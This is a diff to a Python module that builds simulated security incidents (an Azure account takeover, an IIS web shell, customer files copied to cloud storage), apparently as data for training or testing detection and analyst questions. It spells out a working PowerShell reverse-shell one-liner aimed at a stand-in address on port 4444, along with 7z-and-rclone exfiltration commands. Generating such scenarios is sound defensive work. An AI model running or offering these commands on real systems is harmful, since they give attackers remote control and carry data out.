@@ -8,14 +8,15 @@ from .calendar import moment
 from .identity_rows import Browser, Result
 from .incidents_endpoint import encoded
 from .outsiders import AMSTERDAM
-from .processes import standing
+from .processes import Process, standing
 from .stock import Stock
 from .story import Story
 from .tenant import Account, Tenant, guid
 
 __all__ = ["azure_takeover", "data_to_cloud_storage", "web_shell"]
 
-OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
+_SHELL_SERVER = "203.0.113.66"
+_OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
 
 _SHELL = Browser(
     "Windows10",
@@ -28,7 +29,7 @@ _SHELL = Browser(
 def azure_takeover(stock: Stock, company: Tenant) -> Story:
     """An administrator's session opens the subscription: a role, a firewall rule, secrets, a server, its data."""
     story = Story(
-        stock, "azure-takeover-adm-gustav", "incident", "A stolen administrator account assigns Owner, opens RDP, reads the vault",
+        stock, "azure-takeover-adm-gustav", "incident", "A stolen account assigns Owner, opens RDP, reads the vault",
         "Who changed role assignments or network security groups in Azure last week?",
         "What did adm-gustav@contoso.com do in Azure on 12 March?",
     )  # fmt: skip
@@ -104,7 +105,7 @@ def _open_the_subscription(story: Story, gustav: Account, address: str, at: date
         "Properties": {
             "PrincipalId": guid("ServicePrincipal", "svc-azure-sync"),
             "PrincipalType": "ServicePrincipal",
-            "RoleDefinitionId": f"/providers/Microsoft.Authorization/roleDefinitions/{OWNER}",
+            "RoleDefinitionId": f"/providers/Microsoft.Authorization/roleDefinitions/{_OWNER}",
         }
     }
     story.azure(
@@ -190,13 +191,29 @@ def web_shell(stock: Stock, company: Tenant) -> Story:
         "Were there any blocked outbound connections on port 4444 from web-01 this weekend?",
         "What did the IIS worker process on web-01 start on Saturday?",
     )  # fmt: skip
-    web, service, c2 = company.hosts["web-01"], company.services["svc-web"], "203.0.113.66"
-    worker = standing(web, "w3wp.exe", service)
+    worker = standing(company.hosts["web-01"], "w3wp.exe", company.services["svc-web"])
     at = moment(14, "02:13:31")
+    _upload(story, worker, at)
+    caller = _reverse_shell(story, worker, at + timedelta(minutes=4))
+    _refused(story, caller)
+    story.alert(
+        moment(14, "02:26:10"),
+        "Possible web shell activity on an IIS server",
+        "High",
+        "Persistence",
+        "T1505.003",
+        process=caller,
+        account=worker.actor,
+        address=_SHELL_SERVER,
+    )
+    return story
+
+
+def _upload(story: Story, worker: Process, at: datetime) -> None:
     story.flow(
         at - timedelta(minutes=1),
-        web,
-        c2,
+        worker.host,
+        _SHELL_SERVER,
         443,
         "T1190",
         "requests that end in an upload",
@@ -221,23 +238,33 @@ def web_shell(stock: Stock, company: Tenant) -> Story:
             "the worker process starts a command shell",
         )
         story.process(at + timedelta(seconds=1), shell, name, inner, technique, f"discovery with {name}")
-    script = f"$t=New-Object Net.Sockets.TCPClient('{c2}',4444);$s=$t.GetStream();[byte[]]$b=0..65535|%{{0}};while(($i=$s.Read($b,0,$b.Length)) -ne 0){{iex ([Text.Encoding]::ASCII.GetString($b,0,$i))}}"
-    caller = story.process(
-        at + timedelta(minutes=2),
+
+
+def _reverse_shell(story: Story, worker: Process, at: datetime) -> Process:
+    script = (
+        f"$t=New-Object Net.Sockets.TCPClient('{_SHELL_SERVER}',4444);$s=$t.GetStream();[byte[]]$b=0..65535|%{{0}};"
+        "while(($i=$s.Read($b,0,$b.Length)) -ne 0){iex ([Text.Encoding]::ASCII.GetString($b,0,$i))}"
+    )
+    return story.process(
+        at,
         worker,
         "powershell.exe",
         f"powershell.exe -nop -w hidden -e {encoded(script)}",
         "T1059.001 T1505.003",
         "the worker process starts a reverse shell",
     )
+
+
+def _refused(story: Story, caller: Process) -> None:
     for hour in range(44):
+        stage = "T1571" if hour == 0 else ""
         when = moment(14, "02:18:00") + timedelta(hours=hour, seconds=hour * 37 % 300)
         story.flow(
             when,
-            web,
-            c2,
+            caller.host,
+            _SHELL_SERVER,
             4444,
-            "T1571" if hour == 0 else "",
+            stage,
             "the way out to port 4444 is refused",
             outbound=True,
             rule="UserRule_Deny-Internet-Other",
@@ -245,27 +272,15 @@ def web_shell(stock: Stock, company: Tenant) -> Story:
             flows=4 + hour % 3,
         )
         if hour < 12:
-            story.connect(
-                when, caller, c2, 4444, "T1571" if hour == 0 else "", "the reverse shell finds no way out", failed=True
-            )
-    story.alert(
-        moment(14, "02:26:10"),
-        "Possible web shell activity on an IIS server",
-        "High",
-        "Persistence",
-        "T1505.003",
-        process=caller,
-        account=service,
-        address=c2,
-    )
-    return story
+            story.connect(when, caller, _SHELL_SERVER, 4444, stage, "the reverse shell finds no way out", failed=True)
 
 
 def data_to_cloud_storage(stock: Stock, company: Tenant) -> Story:
     """Liam packs the customer files and copies them to a storage service of his own."""
     story = Story(
         stock, "exfiltration-liam", "incident", "Customer files are packed and copied to a private cloud storage",
-        "Did anyone copy data to cloud storage from WS-111 on 10 March?", "Show unusual activity of liam@contoso.com in the last week",
+        "Did anyone copy data to cloud storage from WS-111 on 10 March?",
+        "Show unusual activity of liam@contoso.com in the last week",
     )  # fmt: skip
     host, liam, at = company.desk_of("liam"), company.accounts["liam"], moment(10, "23:31:20")
     prompt = story.process(
@@ -292,18 +307,23 @@ def data_to_cloud_storage(stock: Stock, company: Tenant) -> Story:
             "T1074.001" if item == 0 else "",
             "customer files are gathered",
         )
+    _packed_and_sent(story, prompt, at + timedelta(minutes=3))
+    return story
+
+
+def _packed_and_sent(story: Story, prompt: Process, at: datetime) -> None:
     archive = r"C:\Users\liam\AppData\Local\Temp\holiday.7z"
     zipper = story.process(
-        at + timedelta(minutes=3),
+        at,
         prompt,
         "7z.exe",
         rf'"C:\Program Files\7-Zip\7z.exe" a -mhe=on -pWinter26 {archive} C:\Users\liam\AppData\Local\Temp\acc\*',
         "T1560.001",
         "they are packed with a password",
     )
-    story.file(at + timedelta(minutes=3, seconds=30), zipper, archive, "T1560.001", "the archive is written")
+    story.file(at + timedelta(seconds=30), zipper, archive, "T1560.001", "the archive is written")
     fetch = story.process(
-        at + timedelta(minutes=6),
+        at + timedelta(minutes=3),
         prompt,
         "rclone.exe",
         rf"C:\Users\Public\rclone.exe copy {archive} mega:drop --transfers 8 --no-check-certificate",
@@ -312,7 +332,7 @@ def data_to_cloud_storage(stock: Stock, company: Tenant) -> Story:
     )
     for part in range(14):
         story.connect(
-            at + timedelta(minutes=6, seconds=5 + 21 * part),
+            at + timedelta(minutes=3, seconds=5 + 21 * part),
             fetch,
             "198.51.100.88",
             443,
@@ -320,5 +340,4 @@ def data_to_cloud_storage(stock: Stock, company: Tenant) -> Story:
             "the archive leaves",
             url="g.api.mega.example",
         )
-    story.file(at + timedelta(minutes=14), prompt, archive, "T1070.004", "the archive is deleted", action="FileDeleted")
-    return story
+    story.file(at + timedelta(minutes=11), prompt, archive, "T1070.004", "the archive is deleted", action="FileDeleted")
